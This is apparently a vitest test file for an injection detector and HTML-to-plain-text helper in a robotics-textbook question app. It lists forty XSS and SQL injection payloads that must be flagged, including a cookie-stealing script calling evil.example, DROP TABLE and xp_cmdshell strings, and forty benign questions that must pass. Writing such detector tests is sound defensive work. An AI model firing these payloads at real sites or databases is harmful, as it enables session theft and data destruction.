import { describe, expect, test } from 'vitest';
import { isInjection, plainText } from './textbook.ts';

/** Inputs that are made to run where a program trusts them; from cheat sheets of testers, and with a cover before. */
const attacks = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
  `What is a robot? <script>document.location='http://evil.example/?c='+document.cookie</script>`,
  `"><script>alert(document.domain)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="fetch('//evil.example')">`,
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<body onload=alert('x')>`,
  `<a href="javascript:alert(1)">physical AI</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<b>hello</b>"></iframe>`,
  `<object data="http://evil.example/x.swf"></object>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example">`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `' OR '1'='1`,
  `' OR '1'='1' --`,
  `" OR "a"="a`,
  `') OR ('1'='1`,
  `1 OR 1=1`,
  `x' OR 1=1 --`,
  `admin'--`,
  `admin' #`,
  `admin'/*`,
  `'; DROP TABLE chunks; --`,
  `'; DROP TABLE chat_queries`,
  `1; DROP TABLE chunks`,
  `What is ROS?'; DELETE FROM chat_queries; --`,
  `robot'; INSERT INTO users VALUES ('a', 'b'); --`,
  `robot"; UPDATE users SET role='admin`,
  `' UNION SELECT password FROM users --`,
  `' UNION ALL SELECT NULL, NULL, version() --`,
  `-1 UNION SELECT 1, 2, 3`,
  `What is a sensor' UNION SELECT question FROM chat_queries WHERE 'a'='a`,
  `' AND SLEEP(5) --`,
  `1 AND pg_sleep(5)`,
  `'; WAITFOR DELAY '0:0:5' --`,
  `'; EXEC xp_cmdshell('dir'); --`,
];

const honest = [
  'What is SQL injection, and how do I prevent it?',
  'How does SELECT * FROM users WHERE id = 1 work?',
  'What is the difference between DELETE, TRUNCATE and DROP TABLE?',
  'When should I use UNION ALL instead of UNION?',
  "Why is the input ' OR '1'='1 dangerous?",
  "What does admin'-- do in a login form?",
  `Why does "'; DROP TABLE students; --" delete a table?`,
  'Explain why `1 OR 1=1` is always true.',
  'Can I write INSERT INTO logs SELECT * FROM old_logs in one statement?',
  'how do I drop a table that another table references',
  'Does ORDER BY 1 sort by the first column?',
  'What does the -- mean in SQL?',
  'Select the correct statement about inverse kinematics',
  'Is it OK to update the firmware or create a new image?',
  "What's the difference between 'and' and 'or' in SQL?",
  "What is the robot's sensor for, and why is it 'on' or 'off'?",
  'How do I delete from a list while iterating over it?',
  'What is a union type; select an example?',
  'Explain GROUP BY and HAVING COUNT(*) > 1',
  'Why does "x = 1 or x = 2" select both rows?',
  'What does the <script> tag do in HTML?',
  'What is the difference between <div> and <span>?',
  'How do I add an onclick handler to a button?',
  'What does <img src="robot.png" alt="A robot"> show?',
  'Why is innerHTML dangerous?',
  'How do I escape < and > in HTML?',
  'Where does the <title> element belong?',
  'What does <br> do?',
  'When is a<b and b>c true for vectors?',
  'What does std::vector<int> hold?',
  'How does JavaScript: The Good Parts define closures?',
  'What happens when a page has <script src="app.js"></script> in its head?',
  'Explain what <img src=x onerror=alert(1)> does.',
  'How does an iframe isolate a page?',
  "What does sleep(5) do in Python's time module?",
  'How long should a robot sleep (in seconds) between polls?',
  "Why isn't 1=1 written as true; what would change?",
  "Who wrote 'Introduction to Robotics'; is it still in print?",
  'What are the # and -- signs for in shell and SQL?',
  "It's 5 o'clock; update me on what I've read: what is SLAM?",
];

describe('E7: text of a question', () => {
  test('the lists have forty of each', () => {
    expect([new Set(attacks).size, new Set(honest).size]).toEqual([40, 40]);
  });

  test.each(attacks)('E7: refused is %s', (text) => {
    expect(isInjection(text)).toBe(true);
  });

  test.each(honest)('E7: asked may be %s', (text) => {
    expect(isInjection(text)).toBe(false);
  });

  test.each([
    ['What is <b>physical</b> AI?', 'What is physical AI?'],
    ['  What \n\t is   <p class="x">a robot</p> ? ', 'What is a robot?'],
    ['What does <br> do?', 'What does br do?'],
    ['What does the <script> tag do?', 'What does the script tag do?'],
    ['Is a<b and b>c for <vector> x?', 'Is a<b and b>c for <vector> x?'],
    ['a <!-- hidden --> robot <script>alert(1)</script>', 'a robot script'],
    ['<img src="a.png" alt="x"/> of a<br/>robot', 'of a br robot'],
  ])('E7: %s is read as %s', (text, plain) => {
    expect(plainText(text)).toBe(plain);
  });
});
